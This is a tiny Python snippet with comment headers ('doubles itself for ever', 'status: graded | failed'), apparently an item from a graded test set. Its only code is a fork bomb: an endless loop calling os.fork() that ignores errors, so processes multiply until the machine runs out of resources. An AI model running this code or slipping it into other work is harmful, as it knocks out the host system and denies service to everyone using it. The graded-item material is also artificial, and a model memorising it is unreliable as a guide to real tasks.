# about: doubles itself for ever
# most: 0
# status: graded | failed
# %% double
import os
while True:
    try: os.fork()
    except OSError: pass
